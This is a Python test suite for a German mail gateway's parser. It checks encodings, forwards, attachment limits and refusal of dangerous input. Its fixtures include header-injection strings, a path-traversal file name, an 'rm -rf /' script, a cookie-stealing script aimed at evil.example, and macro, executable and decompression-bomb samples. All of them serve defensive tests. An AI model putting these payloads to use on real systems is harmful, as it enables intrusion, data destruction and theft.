"""The mail parser (`mail_gateway.parse.parse_mail`) on real mails built here: charsets, encodings,
file names, header attacks, limits, dangerous attachments, inline images, HTML, forwards, scans
combined into one PDF, the dedupe key, and random/mutated bytes (it returns a `ParsedMail` or
raises `MailRejected`, nothing else). Pure functions: no servers.
"""

from __future__ import annotations

import base64
import dataclasses
import io
import struct
import zipfile
import zlib
from datetime import UTC, datetime
from email.message import EmailMessage
from pathlib import Path

import pypdfium2 as pdfium
import pytest
from aspose.email_foss.cfb import CFBDocument, CFBStorage, CFBStream, CFBWriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from dms.config import Settings
from mail_gateway.images import NotCombinable, combine_images
from mail_gateway.model import (
    DANGEROUS_ATTACHMENT,
    HEADER_INJECTION,
    HEADER_TOO_LARGE,
    MALFORMED,
    TOO_DEEP,
    TOO_MANY_ATTACHMENTS,
    Attachment,
    Envelope,
    MailRejected,
    ParsedMail,
)
from mail_gateway.parse import parse_mail
from mail_gateway.settings import MailSettings
from tests.docgen import make_pdf, scan_image

MAIL = MailSettings.from_settings(Settings(data_dir=Path("/nonexistent")))
PDF = make_pdf(["Rechnung 4711", "Betrag 119,00 EUR"])
ENVELOPE = Envelope(mail_from="scanner@buero.example", rcpt_tos=("akte+10001@akte.example",),
                    received_at=datetime(2026, 12, 1, 9, 0, tzinfo=UTC), via="smtp")


def _mail(subject: str = "Unterlagen", *, message_id: str | None = "<m1@buero.example>", body: str = "Anbei.\n",
          sender: str = "Hans Müller <Hans.Mueller@Buero.Example>") -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "akte+10001@akte.example"
    msg["Cc"] = "Chefin <chefin@buero.example>"
    msg["Subject"] = subject
    msg["Date"] = "Tue, 01 Dec 2026 10:15:00 +0100"
    if message_id:
        msg["Message-ID"] = message_id
    msg.set_content(body)
    return msg


def _rejected(raw: bytes, mail: MailSettings = MAIL) -> MailRejected:
    with pytest.raises(MailRejected) as caught:
        parse_mail(raw, mail)
    return caught.value


def _multipart(*parts: bytes, headers: bytes = b"From: a@buero.example\r\nSubject: Test\r\n") -> bytes:
    raw = headers + b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="GRENZE"\r\n\r\n'
    raw += b"--GRENZE\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHallo\r\n"
    for part in parts:
        raw += b"--GRENZE\r\n" + part + b"\r\n"
    return raw + b"--GRENZE--\r\n"


def _b64_part(headers: bytes, data: bytes) -> bytes:
    return headers + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(data)


def _tiny_png() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (40, 16), "navy").save(buf, format="PNG")
    return buf.getvalue()


def _docm(name: str = "word/vbaProject.bin") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Override PartName="/word/document.xml" '
            'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'))
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr(name, b"\xcc\x61" + b"\x00" * 200)
    return buf.getvalue()


def _zip(entries: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buf.getvalue()


def _ole(with_macros: bool) -> bytes:
    """A real OLE/CFB file like a Word 97 document (written by aspose-email-foss' CFB writer)."""
    root = CFBStorage("Root Entry")
    root.add_stream(CFBStream("WordDocument", b"\xec\xa5" + b"\x00" * 5000))
    if with_macros:
        macros = root.add_storage(CFBStorage("Macros"))
        vba = macros.add_storage(CFBStorage("VBA"))
        vba.add_stream(CFBStream("dir", b"\x01" * 600))
        macros.add_stream(CFBStream("PROJECT", b'ID="{00000000}"\r\nDocument=ThisDocument/&H00000000\r\n'))
    return CFBWriter.to_bytes(CFBDocument(root=root))


def _pe() -> bytes:
    header = bytearray(b"MZ" + b"\x90\x00\x03\x00" + b"\x00" * 58)
    struct.pack_into("<I", header, 0x3C, 64)
    return bytes(header) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200


# --- headers, charsets, encodings -------------------------------------------------------------------


def test_a_plain_mail_gives_headers_body_and_attachments() -> None:
    msg = _mail("Rechnung für März", body="Hallo,\nanbei die Rechnung.\n")
    msg.add_attachment(PDF, maintype="application", subtype="pdf", filename="Rechnung März.pdf")
    parsed = parse_mail(msg.as_bytes(), MAIL)
    assert parsed.sender == "hans.mueller@buero.example"
    assert parsed.sender_name == "Hans Müller"
    assert parsed.to == ["akte+10001@akte.example"]
    assert parsed.cc == ["chefin@buero.example"]
    assert parsed.subject == "Rechnung für März"
    assert parsed.date == datetime(2026, 12, 1, 9, 15, tzinfo=UTC)
    assert parsed.message_id == "<m1@buero.example>"
    assert "anbei die Rechnung" in parsed.text and parsed.html is None
    [attachment] = parsed.attachments
    assert (attachment.index, attachment.filename, attachment.content_type) == (1, "Rechnung März.pdf",
                                                                                 "application/pdf")
    assert attachment.data == PDF and not parsed.warnings


def test_latin1_and_windows_1252_bodies_and_headers_are_decoded() -> None:
    raw = (b"From: =?iso-8859-1?q?J=FCrgen_K=F6hler?= <jk@kunde.example>\r\n"
           b"Subject: Gr\xfc\xdfe aus K\xf6ln\r\n"  # raw 8-bit Latin-1, not encoded at all
           b"Cc: =?iso-8859-1?q?Kasse_100_=80?= <kasse@kunde.example>\r\n"  # Windows-1252 labelled ISO-8859-1
           b"Date: kein Datum\r\n"
           b"Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
           b"Preis: 100 \x80, \x84Zitat\x93, Stra\xdfe\r\n")  # Windows-1252 bytes labelled ISO-8859-1
    parsed = parse_mail(raw, MAIL)
    assert parsed.sender_name == "Jürgen Köhler"
    assert parsed.subject == "Grüße aus Köln"
    assert parsed.cc == ["kasse@kunde.example"]
    assert "Preis: 100 €, „Zitat“, Straße" in parsed.text
    assert parsed.date is None


def test_unknown_and_wrong_charsets_fall_back_with_a_warning() -> None:
    raw = (b"From: =?x-unknown?q?M=FCller?= <m@kunde.example>\r\n"
           b"Subject: =?utf-8?q?Pr=FCfung?=\r\n"  # Latin-1 bytes labelled UTF-8
           b'Content-Type: text/plain; charset="x-unknown"\r\n\r\nGr\xfc\xdfe\r\n')
    parsed = parse_mail(raw, MAIL)
    assert parsed.sender_name == "Müller"
    assert parsed.subject == "Prüfung"
    assert parsed.text.strip() == "Grüße"
    assert any("Zeichensatz" in w for w in parsed.warnings)
    mislabelled = b"From: a@kunde.example\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSch\xf6n\r\n"
    parsed = parse_mail(mislabelled, MAIL)
    assert parsed.text.strip() == "Schön" and parsed.warnings


def test_broken_base64_is_decoded_as_far_as_possible() -> None:
    encoded = base64.b64encode(PDF)
    damaged = b"\r\n".join(encoded[i:i + 60] for i in range(0, len(encoded), 60)).replace(b"A", b"A*", 3)
    raw = _multipart(b'Content-Type: application/pdf; name="scan.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
                     + damaged)
    parsed = parse_mail(raw, MAIL)
    [attachment] = parsed.attachments
    assert attachment.data == PDF
    assert any("base64" in w and "scan.pdf" in w for w in parsed.warnings)
    truncated = _multipart(b'Content-Type: application/pdf; name="kurz.pdf"\r\nContent-Transfer-Encoding: base64'
                           b"\r\n\r\n" + encoded[:-3])
    assert parse_mail(truncated, MAIL).attachments[0].data.startswith(b"%PDF")
    nothing = _multipart(b'Content-Type: application/pdf; name="leer.pdf"\r\nContent-Transfer-Encoding: base64'
                         b"\r\n\r\n!!!! ****\r\n")
    rejected = _rejected(nothing)
    assert rejected.code == MALFORMED and "leer.pdf" in rejected.message


# --- file names --------------------------------------------------------------------------------------


def test_rfc2047_file_names_are_decoded() -> None:
    word = base64.b64encode("Prüfbericht 2026.pdf".encode()).decode()
    raw = _multipart(_b64_part(f'Content-Type: application/pdf\r\nContent-Disposition: attachment; '
                               f'filename="=?utf-8?B?{word}?="'.encode(), PDF),
                     _b64_part(b"Content-Type: application/pdf\r\nContent-Disposition: attachment; "
                               b'filename="=?iso-8859-1?Q?K=FCndigung.pdf?="', PDF))
    names = [a.filename for a in parse_mail(raw, MAIL).attachments]
    assert names == ["Prüfbericht 2026.pdf", "Kündigung.pdf"]


def test_an_rfc2047_file_name_that_decodes_to_an_exe_is_refused() -> None:
    word = base64.b64encode(b"rechnung.exe").decode()
    raw = _multipart(_b64_part(f'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; '
                               f'filename="=?utf-8?B?{word}?="'.encode(), b"harmless bytes"))
    rejected = _rejected(raw)
    assert rejected.code == DANGEROUS_ATTACHMENT and "rechnung.exe" in rejected.message


def test_rfc2231_file_names_are_decoded() -> None:
    raw = _multipart(_b64_part(b"Content-Type: application/pdf\r\nContent-Disposition: attachment; "
                               b"filename*=iso-8859-1''Pr%FCfung%20M%E4rz.pdf", PDF),
                     _b64_part(b"Content-Type: application/pdf\r\nContent-Disposition: attachment;\r\n"
                               b" filename*0*=utf-8''Gr%C3%BC;\r\n filename*1*=%C3%9Fe.pdf", PDF),
                     _b64_part(b"Content-Type: application/pdf\r\nContent-Disposition: attachment; "
                               b"filename*=utf-8''Sch%F6n.pdf", PDF))  # Latin-1 bytes labelled UTF-8
    names = [a.filename for a in parse_mail(raw, MAIL).attachments]
    assert names == ["Prüfung März.pdf", "Grüße.pdf", "Schön.pdf"]
    exe = _multipart(_b64_part(b"Content-Type: application/pdf\r\nContent-Disposition: attachment; "
                               b"filename*=utf-8''rechnung.pdf.%45XE", PDF))
    assert _rejected(exe).code == DANGEROUS_ATTACHMENT


def test_a_part_without_a_name_is_named_by_its_type_and_paths_are_cleaned() -> None:
    raw = _multipart(_b64_part(b"Content-Type: application/pdf", PDF),
                     _b64_part(b'Content-Type: application/pdf; name="..\\..\\etc/passwd.pdf"', PDF))
    names = [a.filename for a in parse_mail(raw, MAIL).attachments]
    assert names == ["Anhang-1.pdf", "passwd.pdf"]


# --- header attacks and limits ----------------------------------------------------------------------


@pytest.mark.parametrize("raw", [
    b"From: a@buero.example\r\nSubject: =?utf-8?q?Hallo=0ABcc:_opfer@example.com?=\r\n\r\nx\r\n",
    b"From: =?utf-8?q?Hans=0D=0ABcc:_x@y.example?= <a@buero.example>\r\nSubject: x\r\n\r\nx\r\n",
    b"From: a@buero.example\r\nTo: =?utf-8?b?" + base64.b64encode(b"x\x00y") + b"?= <b@c.example>\r\n\r\nx\r\n",
    b"From: a@buero.example\r\nSubject: Hallo\rBcc: opfer@example.com\r\n\r\nx\r\n",
    _multipart(_b64_part(b"Content-Type: application/pdf\r\nContent-Disposition: attachment; "
                         b'filename="=?utf-8?q?a=0D=0AContent-Type:_text/html.pdf?="', PDF)),
], ids=["subject-lf", "from-crlf", "to-nul", "bare-cr", "filename-crlf"])
def test_header_injection_is_refused(raw: bytes) -> None:
    assert _rejected(raw).code == HEADER_INJECTION


def test_absurd_header_sizes_are_refused() -> None:
    long_line = b"From: a@buero.example\r\nSubject: " + b"x" * (MAIL.max_header_line_bytes + 1) + b"\r\n\r\nx\r\n"
    assert _rejected(long_line).code == HEADER_TOO_LARGE
    folded = b"From: a@buero.example\r\nSubject: " + b"\r\n x" * (MAIL.max_header_line_bytes // 2) + b"\r\n\r\nx"
    assert _rejected(folded).code == HEADER_TOO_LARGE
    many = b"From: a@buero.example\r\n" + b"".join(b"X-Filler-%d: %s\r\n" % (i, b"y" * 1000) for i in range(70))
    assert _rejected(many + b"\r\nx").code == HEADER_TOO_LARGE
    no_body = b"From: a@buero.example\r\nX-Endlos: " + b"z" * (MAIL.max_header_bytes + 10)
    assert _rejected(no_body).code == HEADER_TOO_LARGE
    in_part = _multipart(b"Content-Type: application/pdf\r\nX-Riesig: " + b"q" * (MAIL.max_header_line_bytes + 5)
                         + b"\r\n\r\n%PDF-1.4")
    assert _rejected(in_part).code == HEADER_TOO_LARGE


@pytest.mark.parametrize("raw", [
    b"", b"\r\n\r\n", b"\x00\x01\x02\xff binary garbage \x89PNG", PDF,
    b"Das ist keine E-Mail,\r\nsondern nur Text ohne Kopfzeilen.\r\n",
    b"Received: from x by y; Tue, 1 Dec 2026 10:00:00 +0100\r\nReturn-Path: <a@b.example>\r\n\r\n\x89\x00\xff",
    b'From: a@b.example\r\nContent-Type: multipart/mixed; boundary="NIE"\r\n\r\n--ANDERS\r\n\r\nText\r\n',
    b"From: a@b.example\r\nContent-Type: multipart/mixed\r\n\r\n--X\r\nContent-Type: application/pdf\r\n\r\n%PDF\r\n",
], ids=["empty", "blank", "binary", "pdf", "text", "trace-headers-only", "boundary-never-occurs", "no-boundary"])
def test_what_is_not_a_mail_is_refused_as_malformed(raw: bytes) -> None:
    assert _rejected(raw).code == MALFORMED


def test_a_missing_closing_boundary_is_repaired_with_a_warning() -> None:
    raw = _multipart(_b64_part(b'Content-Type: application/pdf; name="r.pdf"', PDF)).removesuffix(b"--GRENZE--\r\n")
    parsed = parse_mail(raw, MAIL)
    assert [a.data for a in parsed.attachments] == [PDF]
    assert any("abschließende Grenze" in w for w in parsed.warnings)


def test_too_many_attachments_are_refused() -> None:
    small = dataclasses.replace(MAIL, max_attachments=3)
    msg = _mail()
    for n in range(4):
        msg.add_attachment(make_pdf([f"Seite {n}"]), maintype="application", subtype="pdf", filename=f"{n}.pdf")
    rejected = _rejected(msg.as_bytes(), small)
    assert rejected.code == TOO_MANY_ATTACHMENTS and "4" in rejected.message
    assert len(parse_mail(msg.as_bytes(), MAIL).attachments) == 4


def _nested(levels: int) -> EmailMessage:
    inner = _mail("Ebene 0", message_id=None)
    inner.add_attachment(PDF, maintype="application", subtype="pdf", filename="tief.pdf")
    for level in range(1, levels + 1):
        outer = _mail(f"Ebene {level}", message_id=f"<ebene{level}@buero.example>")
        outer.add_attachment(inner)
        inner = outer
    return inner


def test_messages_nested_deeper_than_max_depth_are_refused() -> None:
    ok = parse_mail(_nested(MAIL.max_depth).as_bytes(), MAIL)
    assert [a.filename for a in ok.attachments] == ["tief.pdf"]
    assert [f.subject for f in ok.forwarded] == [f"Ebene {n}" for n in range(MAIL.max_depth - 1, -1, -1)]
    assert _rejected(_nested(MAIL.max_depth + 1).as_bytes()).code == TOO_DEEP


def test_a_mail_of_thousands_of_parts_is_refused_before_parsing_them() -> None:
    raw = _multipart(*[b"Content-Type: text/plain\r\n\r\nx"] * 20_000)
    rejected = _rejected(raw)
    assert rejected.code == TOO_MANY_ATTACHMENTS and "Teile" in rejected.message


def test_deeply_nested_multiparts_are_refused_not_crashed() -> None:
    raw = b"From: a@buero.example\r\nSubject: tief\r\n"
    for level in range(200):
        raw += f'Content-Type: multipart/mixed; boundary="b{level}"\r\n\r\n--b{level}\r\n'.encode()
    raw += b"Content-Type: text/plain\r\n\r\nx\r\n"
    assert _rejected(raw).code == TOO_DEEP


# --- dangerous attachments --------------------------------------------------------------------------


@pytest.mark.parametrize(("filename", "data"), [
    ("setup.exe", b"not really an exe, but the name is blocked"),
    ("rechnung.pdf.exe", PDF),
    ("RECHNUNG.PDF.EXE.", PDF),
    ("script.js", b"alert(1)"),
    ("rechnung.pdf", _pe()),
    ("foto.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 100),
    ("lies_mich.txt", b"#!/bin/sh\nrm -rf /\n"),
    ("Angebot.docm", _docm()),
    ("Angebot.docx", _docm()),
    ("Kalkulation.xls", _ole(with_macros=True)),
    ("archiv.zip", _zip({"rechnung.pdf": PDF, "tool.exe": b"whatever"})),
    ("archiv.zip", _zip({"rechnung.pdf": _pe()})),
    ("archiv.zip", _zip({"vertrag.docx": _docm()})),
    ("archiv.zip", _zip({"liste.doc": _ole(with_macros=True)})),
    ("archiv.zip", _zip({"innen.zip": _zip({"makro.xlsm": b"x"})})),
], ids=["exe", "double-ext", "trailing-dot", "js", "mz-as-pdf", "elf", "script", "docm", "docm-as-docx",
        "ole-macros", "zip-exe-name", "zip-pe", "zip-docm", "zip-ole-macros",
        "zip-in-zip"])
def test_dangerous_attachments_are_refused_naming_the_file(filename: str, data: bytes) -> None:
    msg = _mail()
    msg.add_attachment(data, maintype="application", subtype="octet-stream", filename=filename)
    rejected = _rejected(msg.as_bytes())
    assert rejected.code == DANGEROUS_ATTACHMENT
    assert filename.rstrip(".") in rejected.message or filename in rejected.message


def test_harmless_office_files_and_archives_pass() -> None:
    bomb = _zip({"nullen.bin": bytes(64 * 1024 * 1024)})  # 64 MB of zeros: read only up to a cap
    msg = _mail()
    msg.add_attachment(bomb, maintype="application", subtype="zip", filename="bombe.zip")
    msg.add_attachment(_ole(with_macros=False), maintype="application", subtype="msword", filename="alt.doc")
    msg.add_attachment(_zip({"a.pdf": PDF, "b.txt": b"MZ-Nummer 123 ist eine Kundennummer"}),
                       maintype="application", subtype="zip", filename="belege.zip")
    msg.add_attachment(b"MZ-Nummer 4711\n", maintype="text", subtype="plain", filename="notiz.txt")
    parsed = parse_mail(msg.as_bytes(), MAIL)
    assert [a.filename for a in parsed.attachments] == ["bombe.zip", "alt.doc", "belege.zip", "notiz.txt"]


# --- inline images, HTML ----------------------------------------------------------------------------


def _related_mail(logo: bytes, photo: bytes) -> EmailMessage:
    msg = _mail()
    msg.add_alternative('<p>Hallo <img src="cid:logo@firma"></p><p><img src="cid:foto@firma"></p>', subtype="html")
    html = msg.get_payload()[1]
    html.add_related(logo, maintype="image", subtype="png", cid="<logo@firma>", filename="logo.png")
    html.add_related(photo, maintype="image", subtype="jpeg", cid="<foto@firma>")
    return msg


def test_a_small_inline_logo_is_skipped_and_a_big_inline_image_filed() -> None:
    logo = _tiny_png()
    photo = scan_image(["Ein großes eingebettetes Foto", "mit viel Text"], fmt="JPEG")
    assert len(logo) < MAIL.min_inline_image_bytes < len(photo)
    parsed = parse_mail(_related_mail(logo, photo).as_bytes(), MAIL)
    [skipped] = parsed.skipped
    assert (skipped.filename, skipped.size) == ("logo.png", len(logo)) and "kleiner als 20 KB" in skipped.reason
    [filed] = parsed.attachments
    assert filed.data == photo and filed.filename == "Anhang-1.jpg" and filed.inline
    attached = _mail()
    attached.add_attachment(logo, maintype="image", subtype="png", filename="klein.png")
    assert [a.filename for a in parse_mail(attached.as_bytes(), MAIL).attachments] == ["klein.png"]


def test_an_html_only_mail_is_sanitised_and_its_text_kept() -> None:
    msg = _mail()
    msg.set_content(
        '<html><head><style>p {color: red}</style><script>alert("head")</script></head>'
        '<body onload="steal()"><p onclick="x()">Sehr geehrte Damen und Herren,</p>'
        '<script>document.location="https://evil.example/"+document.cookie</script>'
        '<img src="https://tracker.example/pixel.gif"><p>Rechnung <a href="https://kunde.example/r/1">hier</a> '
        '<a href="javascript:alert(1)">klicken</a></p><iframe src="https://evil.example"></iframe></body></html>',
        subtype="html")
    parsed = parse_mail(msg.as_bytes(), MAIL)
    assert parsed.html is not None
    for bad in ("<script", "onload", "onclick", "<img", "tracker.example", "javascript:", "<iframe", "<style",
                "<a "):
        assert bad not in parsed.html
    assert "Sehr geehrte Damen und Herren," in parsed.text and "alert" not in parsed.text
    assert "hier (https://kunde.example/r/1)" in parsed.text and "klicken" in parsed.text


# --- forwards ----------------------------------------------------------------------------------------


def test_an_inline_forward_from_german_outlook_is_recognised() -> None:
    body = ("Bitte in die Akte.\n\n________________________________\n"
            "Von: Müller, Hans <Hans.Mueller@kunde.example>\n"
            "Gesendet: Montag, 30. November 2026 10:15\n"
            "An: Büro <buero@firma.example>\n"
            "Betreff: Kündigung Vertrag 4711\n\n"
            "Sehr geehrte Damen und Herren, hiermit kündige ich.\n")
    parsed = parse_mail(_mail("WG: Kündigung Vertrag 4711", body=body).as_bytes(), MAIL)
    [forward] = parsed.forwarded
    assert forward.how == "inline" and forward.sender == "hans.mueller@kunde.example"
    assert forward.subject == "Kündigung Vertrag 4711" and forward.date == "Montag, 30. November 2026 10:15"


@pytest.mark.parametrize("block", [
    "---------- Weitergeleitete Nachricht ---------\nVon: Eva <eva@kunde.example>\nDate: Mo., 30. Nov. 2026\n"
    "Subject: Zählerstand\nTo: <b@firma.example>\n",
    "-------- Original Message --------\nSubject: Zählerstand\nDate: Mon, 30 Nov 2026 09:00:00 +0100\n"
    "From: Eva <eva@kunde.example>\n",
    "Anfang der weitergeleiteten Nachricht:\n\nVon: Eva <eva@kunde.example>\nBetreff: Zählerstand\n"
    "Datum: 30. November 2026 um 09:00:00 MEZ\nAn: b@firma.example\n",
    "> From: Eva [mailto:eva@kunde.example]\n> Sent: Monday, November 30, 2026 9:00 AM\n> To: Büro\n"
    "> Subject: Zählerstand\n",
], ids=["gmail-de", "thunderbird", "apple-mail-de", "outlook-en-quoted"])
def test_inline_forwards_of_other_mail_programs(block: str) -> None:
    parsed = parse_mail(_mail(body="Zur Info.\n\n" + block + "\nStand: 4711 kWh\n").as_bytes(), MAIL)
    [forward] = parsed.forwarded
    assert (forward.sender, forward.subject, forward.how) == ("eva@kunde.example", "Zählerstand", "inline")


def test_an_attached_forward_is_recorded_and_its_attachments_filed() -> None:
    original = _mail("Ihre Rechnung 4711", sender="Kunde GmbH <Rechnung@Kunde.Example>", message_id="<orig@k>")
    original.replace_header("Date", "Fri, 27 Nov 2026 08:00:00 +0100")
    original.add_attachment(PDF, maintype="application", subtype="pdf", filename="Rechnung-4711.pdf")
    outer = _mail("WG: Ihre Rechnung 4711")
    outer.add_attachment(original)
    parsed = parse_mail(outer.as_bytes(), MAIL)
    [forward] = parsed.forwarded
    assert forward.how == "attached" and forward.sender == "rechnung@kunde.example"
    assert forward.subject == "Ihre Rechnung 4711" and forward.date == "Fri, 27 Nov 2026 08:00:00 +0100"
    assert [a.filename for a in parsed.attachments] == ["Rechnung-4711.pdf"]
    assert parsed.subject == "WG: Ihre Rechnung 4711" and parsed.text.strip() == "Anbei."


# --- scans combined into one PDF --------------------------------------------------------------------


def test_combine_images_makes_one_page_per_image_keeping_the_resolution() -> None:
    png = scan_image(["Seite eins"], dpi=300)
    jpeg = scan_image(["Seite zwei"], dpi=200, fmt="JPEG")
    combined = combine_images([Attachment(1, "a.png", "image/png", png), Attachment(2, "b.jpg", "image/jpeg", jpeg)])
    assert combined.filename == "Scan.pdf" and combined.content_type == "application/pdf"
    document = pdfium.PdfDocument(combined.data)
    try:
        assert len(document) == 2
        for index in range(2):  # A4 either way: the page size follows each image's dpi
            width, height = document[index].get_size()
            assert abs(width - 595) < 2 and abs(height - 842) < 2
    finally:
        document.close()


def test_combine_images_refuses_a_decompression_bomb_without_decoding_it() -> None:
    png = bytearray(_tiny_png())
    struct.pack_into(">II", png, 16, 200_000, 200_000)  # IHDR width/height, then fix its CRC
    struct.pack_into(">I", png, 29, zlib.crc32(bytes(png[12:29])))
    with pytest.raises(NotCombinable):
        combine_images([Attachment(1, "a.png", "image/png", _tiny_png()), Attachment(2, "b.png", "image/png",
                                                                                   bytes(png))])


def test_parse_combines_several_scans_into_scan_pdf_when_configured() -> None:
    msg = _mail()
    msg.add_attachment(scan_image(["Seite 1"]), maintype="image", subtype="png", filename="scan1.png")
    msg.add_attachment(PDF, maintype="application", subtype="pdf", filename="beleg.pdf")
    msg.add_attachment(scan_image(["Seite 2"], fmt="JPEG"), maintype="image", subtype="jpeg", filename="scan2.jpg")
    combined = parse_mail(msg.as_bytes(), dataclasses.replace(MAIL, combine_images=True))
    assert [(a.index, a.filename) for a in combined.attachments] == [(1, "Scan.pdf"), (2, "beleg.pdf")]
    document = pdfium.PdfDocument(combined.attachments[0].data)
    try:
        assert len(document) == 2
    finally:
        document.close()
    separate = parse_mail(msg.as_bytes(), MAIL)
    assert [a.filename for a in separate.attachments] == ["scan1.png", "beleg.pdf", "scan2.jpg"]


# --- dedupe key --------------------------------------------------------------------------------------


def test_dedupe_key_is_stable_with_and_without_message_id() -> None:
    with_id = _mail()
    with_id.add_attachment(PDF, maintype="application", subtype="pdf", filename="r.pdf")
    raw = with_id.as_bytes()
    first, second = parse_mail(raw, MAIL), parse_mail(b"Received: from relay\r\n" + raw, MAIL)
    assert first.dedupe_key(ENVELOPE) == second.dedupe_key(ENVELOPE)
    other_id = _mail(message_id="<anders@buero.example>")
    other_id.add_attachment(PDF, maintype="application", subtype="pdf", filename="r.pdf")
    assert parse_mail(other_id.as_bytes(), MAIL).dedupe_key(ENVELOPE) != first.dedupe_key(ENVELOPE)

    def without_id(data: bytes) -> bytes:
        msg = _mail(message_id=None)
        msg.add_attachment(data, maintype="application", subtype="pdf", filename="r.pdf")
        return msg.as_bytes()

    a, b = parse_mail(without_id(PDF), MAIL), parse_mail(without_id(PDF), MAIL)
    assert a.message_id is None and a.dedupe_key(ENVELOPE) == b.dedupe_key(ENVELOPE)
    assert a.dedupe_key(ENVELOPE) != first.dedupe_key(ENVELOPE)
    assert parse_mail(without_id(make_pdf(["anders"])), MAIL).dedupe_key(ENVELOPE) != a.dedupe_key(ENVELOPE)


def test_message_id_is_stripped_of_whitespace() -> None:
    raw = b"From: a@buero.example\r\nMessage-ID:\r\n  <abc.def@buero.example>  \r\nSubject: x\r\n\r\nx\r\n"
    assert parse_mail(raw, MAIL).message_id == "<abc.def@buero.example>"


# --- anything at all: a ParsedMail or MailRejected ---------------------------------------------------


def _sample_mails() -> list[bytes]:
    full = _related_mail(_tiny_png(), b"\xff\xd8\xff\xe0" + b"\x00" * 64)
    full.add_attachment(PDF[:600], maintype="application", subtype="pdf", filename="Prüfung.pdf")
    forwarded = _nested(2)
    latin = (b"From: =?iso-8859-1?q?J=FCrgen?= <jk@kunde.example>\r\nSubject: Gr\xfc\xdfe\r\n"
             b"Content-Type: text/plain; charset=x-unknown\r\n\r\nStra\xdfe\r\n")
    return [full.as_bytes(), forwarded.as_bytes(), latin,
            _multipart(_b64_part(b"Content-Type: application/zip; name=a.zip", _zip({"a.txt": b"x"})))]


SAMPLES = _sample_mails()
TOKENS = [b"\r\n", b"\n\n", b"--", b"=?utf-8?b?", b"?=", b"=?x-unknown?q?=FC", b"boundary=", b"\x00", b"\r",
          b"Content-Type: message/rfc822\r\n\r\n", b"Content-Type: multipart/mixed; boundary=\"", b"filename*0*=",
          b"charset=utf-7", b"Content-Transfer-Encoding: base64\r\n", b"MZ", b"PK\x03\x04", b"\xff\xfe", b"%"]


def _check(raw: bytes) -> None:
    try:
        result = parse_mail(raw, MAIL)
    except MailRejected as exc:
        assert exc.code and exc.message
        return
    assert isinstance(result, ParsedMail)
    for text in (result.subject, result.text, result.html or "", *(a.filename for a in result.attachments)):
        text.encode("utf-8")  # no lone surrogates in anything handed on


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2000))
def test_random_bytes_give_a_parsed_mail_or_mail_rejected(raw: bytes) -> None:
    _check(raw)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(range(len(SAMPLES))), st.lists(st.tuples(
    st.sampled_from(["flip", "insert", "cut", "token"]), st.integers(min_value=0), st.integers(0, 255),
    st.sampled_from(TOKENS)), min_size=1, max_size=6))
def test_mutated_mails_give_a_parsed_mail_or_mail_rejected(sample: int, edits: list) -> None:
    data = bytearray(SAMPLES[sample])
    for kind, position, value, token in edits:
        at = position % (len(data) + 1)
        if kind == "flip" and data:
            data[at % len(data)] = value
        elif kind == "insert":
            data[at:at] = bytes([value])
        elif kind == "cut":
            del data[at:at + value]
        else:
            data[at:at] = token
    _check(bytes(data))
